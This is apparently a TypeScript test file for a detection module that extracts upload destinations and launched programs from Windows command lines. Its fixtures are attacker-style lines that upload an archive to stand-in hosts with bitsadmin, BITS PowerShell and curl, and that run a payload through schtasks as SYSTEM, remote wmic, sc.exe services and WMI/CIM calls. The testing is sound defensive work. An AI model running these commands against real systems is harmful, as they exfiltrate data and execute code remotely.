import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isWhatWasAsked, REQUESTS_MAX, requestsIn } from '../../enrich/evidence/requests.ts';

describe('requestsIn', () => {
  it.each([
    ['bitsadmin /transfer j /upload https://Drop.Example.net/u C:\\Users\\Public\\q.7z', 'drop.example.net'],
    ['bitsadmin.exe /addfile j https://user:pw@203.0.113.7:8443/u C:\\q.7z', '203.0.113.7'],
    [
      'powershell -c "Start-BitsTransfer -Source C:\\q.7z -Destination https://drop.example.net/q -TransferType Upload"',
      'drop.example.net',
    ],
    ['cmd /c "7z a q.7z d & bitsadmin /transfer j /upload https://drop.example.net/u C:\\q.7z"', 'drop.example.net'],
  ])('%s asks for a transfer', (line, host) => {
    expect(requestsIn(line)).toEqual({ transfersTo: [host], starts: [] });
  });

  it.each([
    [
      'schtasks /create /tn u /sc once /st 23:00 /tr "C:\\PerfLogs\\up.exe C:\\q.7z" /ru SYSTEM',
      'C:\\PerfLogs\\up.exe C:\\q.7z',
    ],
    ['wmic /node:ws02 process call create "C:\\PerfLogs\\up.exe C:\\q.7z"', 'C:\\PerfLogs\\up.exe C:\\q.7z'],
    ['sc.exe create upd binPath= "C:\\PerfLogs\\up.exe C:\\q.7z" start= demand', 'C:\\PerfLogs\\up.exe C:\\q.7z'],
    [
      'powershell -c "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine=\'C:\\PerfLogs\\up.exe C:\\q.7z\'}"',
      'C:\\PerfLogs\\up.exe C:\\q.7z',
    ],
    [
      'powershell -c "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList \'C:\\PerfLogs\\up.exe C:\\q.7z\'"',
      'C:\\PerfLogs\\up.exe C:\\q.7z',
    ],
  ])('%s asks for a start', (line, start) => {
    expect(requestsIn(line)).toEqual({ transfersTo: [], starts: [start] });
  });

  it.each([
    'bitsadmin /list /allusers',
    'schtasks /query /tn u',
    'wmic process list brief',
    'sc query bits',
    'curl -T C:\\q.7z https://drop.example.net/bitsadmin',
    'notepad schtasks /create /tr x.txt',
  ])('%s asks for nothing', (line) => {
    expect(requestsIn(line)).toEqual({ transfersTo: [], starts: [] });
  });

  it('never throws, and keeps few of many', () => {
    const word = fc.constantFrom(
      'bitsadmin',
      '/addfile',
      'https://a.example/',
      'schtasks',
      '/tr',
      '/create',
      '"',
      '&',
      'wmic',
      "'",
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(word, fc.string()), { maxLength: 60 }), (words) => {
        const { transfersTo, starts } = requestsIn(words.join(' '));
        expect(transfersTo.length).toBeLessThanOrEqual(REQUESTS_MAX);
        expect(starts.length).toBeLessThanOrEqual(REQUESTS_MAX);
      }),
    );
  });
});

describe('isWhatWasAsked', () => {
  it('compares program and arguments, not their quotes', () => {
    const asked = 'C:\\PerfLogs\\up.exe C:\\q.7z';
    expect(isWhatWasAsked(asked, '"C:\\PerfLogs\\UP.EXE" C:\\q.7z')).toBe(true);
    expect(isWhatWasAsked(asked, 'up.exe C:\\q.7z')).toBe(true);
    expect(isWhatWasAsked(asked, 'up.exe C:\\other.7z')).toBe(false);
    expect(isWhatWasAsked(asked, 'up.exe C:\\q.7z -v')).toBe(false);
    expect(isWhatWasAsked(asked, 'curl.exe C:\\q.7z')).toBe(false);
    expect(isWhatWasAsked('', '')).toBe(false);
  });
});
